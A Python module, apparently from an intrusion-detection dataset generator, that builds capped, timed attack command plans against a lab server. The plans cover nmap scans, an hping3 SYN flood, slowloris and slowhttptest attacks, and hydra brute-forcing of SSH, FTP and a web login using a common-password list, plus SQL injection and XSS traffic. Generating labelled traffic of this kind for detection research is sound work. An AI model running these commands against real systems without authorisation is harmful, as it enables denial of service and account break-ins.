"""The attack commands, each bounded in packets (a port range, ``-c``, a connection count, a word list) and in time
(the tool's own limit where it has one, and a subprocess timeout always).

Budgets grow with ``intensity`` (1.0 for one minute of traffic) and are capped, so a long run is never a flood."""

from __future__ import annotations

import pwd
import sys
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from bastion.ids.generate.actors import SERVER_IP
from bastion.ids.generate.webapp import PASSWORD

PASSWORDS = ("123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111", "1234567",
             "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein", "696969", "shadow",
             "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890", "michael", "654321", "superman",
             "1qaz2wsx", "7777777", "121212", "000000", "qazwsx", "123qwe", "killer", "trustno1", "jordan",
             "jennifer", "zxcvbnm", "asdfgh", "hunter", "buster", "soccer", "harley", "batman", "andrew", "tigger",
             "sunshine", "iloveyou", "2000", "charlie", "robert", "thomas", "hockey", "ranger", "daniel")
USERS = ("root", "admin", "alice", "user", "test")
FTP_USERS = ("webmaster", "shopadmin", "alice", "backup", "ftpuser", "sales", "office", "support")


def _no_account(names: tuple[str, ...]) -> list[str]:
    """The names that are no account of this host (the FTP server refuses real accounts before any password)."""
    out = []
    for name in names:
        try:
            pwd.getpwnam(name)
        except KeyError:
            out.append(name)
    return out or ["bastion-ids-nobody"]


@dataclass(frozen=True)
class Step:
    argv: list[str]
    timeout: float


def _words(path: Path, n: int, rng: np.random.Generator, extra: tuple[str, ...] = ()) -> str:
    words = list(PASSWORDS[:n]) + [f"{w}{int(rng.integers(0, 100))}" for w in PASSWORDS[: max(0, n - len(PASSWORDS))]]
    path.write_text("\n".join([*words, *extra]) + "\n")
    return str(path)


def plans(intensity: float, seconds: float, seed: int, tmp: Path) -> dict[str, list[Step]]:
    """Attacker name (``actors.ATTACKERS``) -> the commands it runs, in order."""
    rng = np.random.default_rng(seed)
    k = min(max(intensity, 0.2), 5.0)
    t = max(seconds, 10.0)
    ports, udp = int(min(200 * k, 1000)), int(min(20 * k, 100))
    nmap = ["nmap", "-n", "-Pn", "-e", "eth0", "--max-retries", "1", "--host-timeout", f"{int(t / 2)}s"]
    words = _words(tmp / "passwords.txt", int(min(25 * k, 100)), rng)
    web_words = _words(tmp / "web_passwords.txt", int(min(25 * k, 100)), rng, extra=(PASSWORD,))
    users, ftp_users = tmp / "users.txt", tmp / "ftp_users.txt"
    users.write_text("\n".join(USERS[: 2 + int(k)]) + "\n")
    ftp_users.write_text("\n".join(_no_account(FTP_USERS)[: 2 + int(k)]) + "\n")
    hydra = ["hydra", "-I", "-w", "5", "-W", "1", "-t"]  # then the number of parallel tasks
    py = [sys.executable, str(Path(__file__).parent / "webattack.py")]
    flood = int(min(600 * k, 3000))
    slow = int(min(60 * k, 250))
    return {
        "scan": [Step([*nmap, "-sS", "--max-rate", "300", "-p", f"1-{ports}", SERVER_IP], t / 4),
                 Step([*nmap, "-sT", "--max-rate", "300", "-p", f"1-{ports}", SERVER_IP], t / 4),
                 Step([*nmap, "-sU", "--max-rate", "100", "-p", f"1-{udp}", SERVER_IP], t / 4),
                 Step([*nmap, "-sV", "--version-light", "-p", "21,22,53,80,5432", SERVER_IP], t / 4)],
        "flood": [Step(["hping3", "-q", "-S", "-p", "80", "-i", "u2000", "-c", str(flood), SERVER_IP],
                       min(flood / 500 + 10, t))],
        "slowh": [Step(["slowhttptest", "-H", "-c", str(slow), "-r", "30", "-i", "5", "-l", str(int(t / 2)),
                        "-x", "24", "-p", "3", "-u", f"http://{SERVER_IP}/"], t / 2 + 10)],
        "slowl": [Step([*py, "slowloris", SERVER_IP, str(slow), str(seed + 1), str(t / 2)], t / 2 + 10)],
        "sshp": [Step([*hydra, "8", "-L", str(users), "-P", words, f"ssh://{SERVER_IP}"], t / 2)],
        "ftpp": [Step([*hydra, "8", "-L", str(ftp_users), "-P", words, f"ftp://{SERVER_IP}"], t / 2)],
        "webbf": [Step([*hydra, "4", "-l", "alice", "-P", web_words, SERVER_IP, "http-post-form",
                        "/login:user=^USER^&pass=^PASS^:F=Invalid"], t / 2)],
        "sqli": [Step([*py, "sqli", SERVER_IP, str(int(min(80 * k, 400))), str(seed + 2), str(t / 2)], t / 2 + 10)],
        "xss": [Step([*py, "xss", SERVER_IP, str(int(min(80 * k, 400))), str(seed + 3), str(t / 2)], t / 2 + 10)],
    }
